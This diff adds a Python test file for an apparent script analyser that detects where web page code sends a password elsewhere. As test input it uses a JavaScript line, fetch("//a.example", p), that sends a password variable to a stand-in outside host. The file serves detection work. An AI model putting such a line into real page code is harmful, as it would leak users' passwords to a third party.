@@ -1,0 +1,19 @@
+"""Places that send a password somewhere."""
+
+from __future__ import annotations
+
+from webshellhunt.client_scripts.exfiltration import MAX_EXFILTRATIONS
+
+from tests.client_scripts.test_script_analysis import TAKEN, analysed
+
+
+def test_no_more_exfiltrations_are_listed_than_the_bound() -> None:
+    assert (
+        len(analysed(TAKEN + 'fetch("//a.example", p);' * (MAX_EXFILTRATIONS + 5)).exfiltrations) == MAX_EXFILTRATIONS
+    )
+
+
+def test_a_leak_has_its_path_in_words() -> None:
+    (leak,) = analysed(TAKEN + 'fetch("//a.example", p);').exfiltrations
+    assert leak.words.split(" → ")[1:] == ["p", "fetch"]
+    assert not leak.logs_keys
